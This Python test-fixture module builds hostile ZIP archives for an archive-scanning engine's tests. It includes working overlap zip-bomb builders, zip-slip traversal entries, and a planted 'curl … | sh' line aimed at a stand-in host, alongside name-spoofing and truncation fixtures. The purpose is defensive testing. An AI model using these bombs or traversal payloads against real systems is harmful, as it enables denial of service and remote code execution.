"""ZIP archives for the tests, built at test time: ordinary, nested, hostile (bombs, traversal, tampering).

Ordinary archives come from ``zipfile`` and Info-ZIP ``zip`` (real tools); hostile ones are assembled
byte by byte here because no tool writes them on purpose. The bombs follow David Fifield's "A better zip
bomb" (WOOT 2019): full overlap (every entry points at one kernel) and quoted overlap (each entry's deflate
stream quotes the next local header in a stored block, so the entries chain into one kernel).
"""

from __future__ import annotations

import io
import shutil
import struct
import subprocess
import tempfile
import zipfile
import zlib
from pathlib import Path

FAKE_EXE = b"MZ" + b"\x00" * 58 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 200


def make(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0))
            info.compress_type = compression
            if name.endswith("/"):
                info.external_attr = 0o40755 << 16 | 0x10
            zf.writestr(info, data)
    return buf.getvalue()


def nested() -> bytes:
    """update.zip → inner.zip → ZoomInstaller.exe: the engine recurses, this handler opens one level."""
    inner = make({"ZoomInstaller.exe": FAKE_EXE})
    return make({"inner.zip": inner, "readme.txt": b"Run the installer.\n"})


def ratio_bomb(expanded: int = 64 * 1024 * 1024) -> bytes:
    """One member of zeros: ~1000:1, the classic single-file bomb."""
    return make({"ZoomInstaller.exe": b"\x00" * expanded})


def padded_installer(padding: int = 8 * 1024 * 1024) -> bytes:
    """A PE followed by megabytes of zeros (binary padding, T1027.001) — compresses like a bomb."""
    return make({"ZoomInstaller.exe": FAKE_EXE + b"\x00" * padding})


def many_members(count: int) -> bytes:
    return make({f"node_modules/pkg{i}/index.js": b"module.exports = 1;\n" for i in range(count)})


def _local(name: bytes, crc: int, csize: int, usize: int, method: int = 8) -> bytes:
    return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x5A21, crc, csize, usize, len(name), 0) + name


def _central(name: bytes, crc: int, csize: int, usize: int, offset: int, method: int = 8) -> bytes:
    return (
        struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02", 20, 20, 0, method, 0, 0x5A21, crc, csize, usize, len(name), 0, 0, 0, 0, 0, offset,
        )
        + name
    )  # fmt: skip


def _eocd(count: int, cd_size: int, cd_offset: int) -> bytes:
    return struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, cd_size, cd_offset, 0)


def _deflate(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def full_overlap_bomb(entries: int = 50, kernel_bytes: int = 4 * 1024 * 1024) -> bytes:
    """One local file + kernel; ``entries`` central-directory records all point at it."""
    payload = b"\x00" * kernel_bytes
    kernel = _deflate(payload)
    crc = zlib.crc32(payload)
    body = _local(b"kernel.bin", crc, len(kernel), len(payload)) + kernel
    cd = b"".join(_central(f"file{i}.bin".encode(), crc, len(kernel), len(payload), 0) for i in range(entries))
    return body + cd + _eocd(entries, len(cd), len(body))


def quoted_overlap_bomb(entries: int = 20, kernel_bytes: int = 1024 * 1024) -> bytes:
    """Fifield's quoted overlap. Layout: LH0 Q0 LH1 Q1 ... LH(n-1) kernel, where Qi is a 5-byte stored
    deflate block header that quotes LH(i+1). Entry i's data is Qi + LH(i+1) + entry i+1's data, so every
    entry inflates to (the local headers after it) + the kernel, and all entries share one kernel."""
    names = [f"{i:04d}.bin".encode() for i in range(entries)]
    plain = b"\x00" * kernel_bytes
    data = _deflate(plain)
    header = _local(names[-1], zlib.crc32(plain), len(data), len(plain))
    meta = [(header, data, plain)]
    for i in reversed(range(entries - 1)):  # build backwards: each entry contains the ones after it
        nxt_header = meta[0][0]
        quote = struct.pack("<BHH", 0x00, len(nxt_header), len(nxt_header) ^ 0xFFFF)  # BFINAL=0, BTYPE=00
        data = quote + nxt_header + meta[0][1]
        plain = nxt_header + meta[0][2]
        meta.insert(0, (_local(names[i], zlib.crc32(plain), len(data), len(plain)), data, plain))
    blob = meta[0][0] + meta[0][1]
    cd = b""
    offset = 0
    for name, (header, data, plain) in zip(names, meta, strict=True):
        cd += _central(name, zlib.crc32(plain), len(data), len(plain), offset)
        offset += len(header) + 5
    return blob + cd + _eocd(entries, len(cd), len(blob))


def zipcrypto(members: dict[str, bytes], password: bytes) -> bytes:
    """Traditional PKWARE-encrypted members (Info-ZIP ``zip -P``; zipfile cannot write encryption)."""
    zip_exe = shutil.which("zip")
    if zip_exe is None:
        raise RuntimeError("zip not found: apt-get install zip")
    with tempfile.TemporaryDirectory() as tmp:
        work = Path(tmp)
        for name, data in members.items():
            (work / name).write_bytes(data)
        subprocess.run([zip_exe, "-q", "-P", password.decode(), "-X", "out.zip", *members], cwd=work, check=True)
        return (work / "out.zip").read_bytes()


def traversal() -> bytes:
    """Names that would escape an extraction folder (zip-slip): relative, absolute, drive-qualified."""
    return make(
        {
            "../../.bashrc": b"curl https://a.invalid/x | sh\n",
            "/etc/cron.d/x": b"* * * * * root true\n",
            "C:\\Users\\Public\\x.bat": b"@echo off\n",
            "ok.txt": b"fine\n",
        }
    )


def app_bundle_zip() -> bytes:
    """A zipped macOS app, the way browsers deliver them."""
    return make(
        {
            "Zoom.app/": b"",
            "Zoom.app/Contents/": b"",
            "Zoom.app/Contents/Info.plist": b"<?xml version='1.0'?><plist><dict/></plist>",
            "Zoom.app/Contents/MacOS/zoom.us": b"\xcf\xfa\xed\xfe" + b"\x00" * 60,
        }
    )


def streamed_without_central_directory() -> bytes:
    """Written to a non-seekable stream (data descriptors, sizes 0 in local headers), then the central
    directory cut off: what a truncated or tampered download looks like."""

    class _Pipe(io.RawIOBase):
        def __init__(self) -> None:
            self.buf = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, b: bytes | bytearray | memoryview) -> int:  # type: ignore[override]
            self.buf += b
            return len(b)

    pipe = _Pipe()
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as zf:
        with zf.open("a.txt", "w") as f:
            f.write(b"first member " * 100)
        with zf.open("ZoomInstaller.exe", "w") as f:
            f.write(FAKE_EXE)
    data = bytes(pipe.buf)
    return data[: data.find(b"PK\x01\x02")]


def name_mismatch() -> bytes:
    """The local header says one name, the central directory another (tools disagree on which to show)."""
    data = bytearray(make({"invoice.pdf": b"%PDF-1.4\n"}, zipfile.ZIP_STORED))
    at = data.find(b"invoice.pdf")  # the first occurrence is in the local header
    data[at : at + len("invoice.pdf")] = b"invoice.exe"
    return bytes(data)
